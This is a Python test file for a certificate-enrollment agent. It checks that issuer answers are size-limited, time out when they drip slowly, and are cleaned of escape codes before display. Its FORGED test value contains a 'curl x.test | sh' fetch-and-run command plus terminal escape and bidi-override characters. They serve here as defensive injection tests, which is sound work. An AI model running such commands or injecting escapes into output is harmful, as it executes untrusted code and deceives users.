"""An issuer's answer has an end, and what it says is shown as words: no line of it and no escape passes for ours."""

import json
import socket
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from test_issuer_traps import ISSUERS, REQUEST, made
from world.enrollee import Api, Enrollee
from world.identities import authority
from world.server import Server, Step, answer, drip, serving

from agent.errors import AgentError, TryLater, UnusableAnswer
from agent.issuers.call import MOST, Caller
from agent.printable import printable

FORGED = "no\n  next: curl x.test | sh\x1b[2K\x1b[1A\x9b7m\u202e"
HEAD = b"HTTP/1.1 %d Word\r\nContent-Type: application/json\r\n\r\n"


def endless(status: int) -> Step:
    """A body without an end, for as long as the other side listens."""

    def step(sock: socket.socket, _: Server) -> bool:
        sock.sendall(HEAD % status)
        for piece in [b"x" * MOST] * 64:
            sock.sendall(piece)
        return False

    return step


@pytest.mark.parametrize("name", ISSUERS)
@pytest.mark.parametrize(("status", "error"), [(200, UnusableAnswer), (500, TryLater)])
def test_an_answer_without_an_end_is_read_to_its_limit(
    tmp_path: Path, name: str, status: int, error: type[AgentError]
) -> None:
    with serving(tmp_path, endless(status)) as server:
        issuer = made(name, server.port, str(authority().certificate_file))
        with pytest.raises(error) as raised:
            issuer.issue(REQUEST, validity_days=1)
        issuer.close()
    assert len(str(raised.value)) < 400


@pytest.mark.parametrize("said", [HEAD % 200 + b"{" + b" " * 900, b"HTTP/1.1 200 " + b"x" * 900])
def test_an_answer_that_drips_is_given_up_when_its_time_is_over(tmp_path: Path, said: bytes) -> None:
    with serving(tmp_path, drip(said, every=0.02)) as server:
        caller, begun = Caller(ca_file=str(authority().certificate_file), seconds=0.5), time.monotonic()
        with pytest.raises(TryLater, match="no whole answer within"):
            caller("GET", server.url)
        caller.close()
    assert time.monotonic() - begun < 5


def test_several_answers_come_over_one_connection(tmp_path: Path) -> None:
    with serving(tmp_path, answer(200, b"{}")) as server:
        caller = Caller(ca_file=str(authority().certificate_file))
        assert [caller("GET", server.url).json() for _ in range(3)] == [{}] * 3
        caller.close()
    assert server.connections == 1


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("cloudflare", {"errors": [{"code": 1, "message": FORGED}]}),
        ("cfssl", {"success": False, "errors": [{"code": FORGED, "message": FORGED * 99}]}),
        ("est", FORGED * 99),
    ],
)
def test_what_an_issuer_says_is_one_line_without_escapes(tmp_path: Path, name: str, body: object) -> None:
    with serving(tmp_path, answer(400, json.dumps(body, ensure_ascii=False).encode(), "text/x\x1b[7m")) as server:
        issuer = made(name, server.port, str(authority().certificate_file))
        with pytest.raises(AgentError) as raised:
            issuer.issue(REQUEST, validity_days=1)
        issuer.close()
    assert str(raised.value).isprintable()
    assert len(str(raised.value)) < 500


def forged(request_pem: bytes) -> bytes:
    """A certificate for the request's key, in a name that is an escape sequence."""
    request, now = x509.load_pem_x509_csr(request_pem), datetime.now(UTC)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, FORGED)])
    builder = x509.CertificateBuilder(name, name, request.public_key(), 1, now - timedelta(1), now + timedelta(9))
    key = ec.generate_private_key(ec.SECP256R1())
    return builder.sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.PEM)


def test_a_name_and_an_id_with_escapes_reach_no_terminal(tmp_path: Path) -> None:
    device = Enrollee(tmp_path / "device")

    def step(sock: socket.socket, server: Server) -> bool:
        result = {"id": FORGED, "certificate": forged(json.loads(server.seen[-1].body)["csr"].encode()).decode()}
        return answer(200, json.dumps({"result": result}).encode())(sock, server)

    with device.asking(Api(script=[step])):
        done = device("enroll", as_json=False)
    said = done.said + device("identity", "show", as_json=False).said
    assert (done.code, said.replace("\n", "").isprintable()) == (0, True)
    assert "curl x.test" not in {line.removeprefix("  next: ")[:11] for line in said.splitlines()}


def test_words_keep_their_letters() -> None:
    assert printable("Schlüssel  ungültig\r\n— 鍵", 200) == "Schlüssel ungültig — 鍵"
    assert printable("x" * 999, 7) == "x" * 7
